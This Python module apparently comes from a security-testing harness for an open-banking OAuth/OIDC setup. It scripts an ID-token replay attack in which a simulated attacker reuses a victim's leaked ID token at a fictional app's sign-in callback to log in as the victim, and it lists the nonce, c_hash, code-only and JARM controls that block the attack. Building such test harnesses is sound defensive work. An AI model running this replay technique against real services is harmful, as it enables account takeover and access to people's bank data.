"""id-token-replay-login: the victim's ID token, read on the token leg, replayed to sign in.

A4 reads the token responses FinLens got for the victim (who signed in with HonestBank
and linked his accounts). It starts "Sign in with HonestBank" in its own browser and posts
the victim's ID token with its own state to FinLens's sign-in callback, in the hybrid
shape (OIDC §3.3.2.5) the legacy FinLens accepts. Refused by response_type_code_only (no
ID token from the front channel, FAPI2 §5.3.2.2), tpp_checks_nonce (the token carries
the victim's nonce, OIDC §3.1.3.7 step 11) and tpp_id_token_validation (a hybrid response
needs its code, and the ID token's c_hash must be that code's, OIDC §3.3.2.11).
"""

from __future__ import annotations

from attacker import frontchannel as fc
from attacker import signin_support as ss
from attacker.attack_context import AttackContext
from attacker.attacks import Attack


def run(ctx: AttackContext) -> None:
    victim = ctx.victim("alice")
    victim.sign_in_with_bank()
    victim.link()
    victim.dashboard()
    leaked = ctx.capture.last("token", where=lambda c: isinstance(c.json().get("id_token"), str))
    id_token = str(leaked.json()["id_token"])
    ctx.step("attacker", "reads an ID token FinLens got for the victim (token leg)")
    attacker, state = ss.own_pending_signin(ctx)
    fields = {"id_token": id_token, **({"state": state} if state else {})}
    ss.post_signin(ctx, attacker, fields, "posts the victim's ID token with its own state "
                   "to FinLens's sign-in callback")
    page = attacker.dashboard()
    ids = fc.expect_accounts_of(ctx, page, victim.username, "the attacker's")
    ctx.succeeded(f"signed in to FinLens as {victim.username}: the attacker sees {len(ids)} "
                  "of the victim's linked accounts", {"accounts": ids})


ATTACK = Attack(
    id="id-token-replay-login", attacker="A4", legs=("token",), victim="prior",
    title="Victim's ID token replayed to log in to the TPP",
    blocked_by=("response_type_code_only", "tpp_checks_nonce", "tpp_id_token_validation"),
    premise="Reads the token responses FinLens received for the victim (who signed in with "
            "his bank and linked his accounts); has its own browser.",
    goal="the attacker is signed in to FinLens as the victim and sees his linked accounts",
    run=run, refs=("OIDC §3.1.3.7", "OIDC §3.3.2.11", "OIDC §16.9", "FAPI2 §5.3.2.2",
              "OpenID conformance suite: ID token with the wrong nonce"),
    also_blocked_by={
        "jarm":
            "FinLens takes a sign-in response only as a JWT the AS signed for it (with the "
            "state inside); the attacker holds a bare ID token from the token leg, no such "
            "response",
    },
)
